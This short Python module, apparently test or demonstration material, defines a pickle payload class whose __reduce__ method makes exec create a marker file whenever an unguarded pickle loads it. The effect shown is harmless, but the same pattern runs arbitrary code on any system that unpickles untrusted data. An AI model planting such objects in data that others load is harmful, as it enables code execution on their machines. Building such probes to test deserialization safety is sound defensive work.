"""Code that a pickle runs when it is loaded."""


class Payload:
    """Leaves a file where it is loaded by an unguarded pickle."""

    def __init__(self, mark):
        self.mark = mark

    def __reduce__(self):
        return exec, (f"open({str(self.mark)!r}, 'w').close()",)
